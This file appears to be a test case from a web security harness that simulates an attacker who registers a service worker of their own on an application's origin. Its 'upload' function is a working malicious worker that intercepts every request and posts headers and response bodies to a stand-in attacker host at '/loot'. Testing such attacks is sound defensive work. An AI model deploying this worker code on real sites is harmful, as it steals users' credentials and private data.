// A real attacker: found a place on the application's origin that serves a script of theirs (an upload, a JSONP
// answer) and registers it as a service worker, which then sees every request of the page and of the workers of that
// origin.
export default {
  row: "own-worker",
  expected: ["wins", "loses"],
  peers: true,
  dirty: true,
  upload: ({ evil }) => {
    self.addEventListener("install", () => self.skipWaiting());
    self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
    const home = (text) => fetch(`${evil}/loot`, { method: "POST", mode: "no-cors", body: text });
    self.addEventListener("fetch", (event) => {
      if (event.request.url.startsWith(evil)) return;
      event.respondWith(
        (async () => {
          await home([...event.request.headers].join());
          const response = await fetch(event.request);
          await home(await response.clone().text());
          return response;
        })(),
      );
    });
  },
  after: async () => {
    await navigator.serviceWorker.register("/upload.js", { scope: "/" });
    await navigator.serviceWorker.ready;
    return "registered";
  },
  reload: async () => {
    await globalThis.app.call("/v1/me").catch(String);
    return String(navigator.serviceWorker.controller?.scriptURL);
  },
  reached: ({ reloaded }) => reloaded.endsWith("/upload.js"),
};
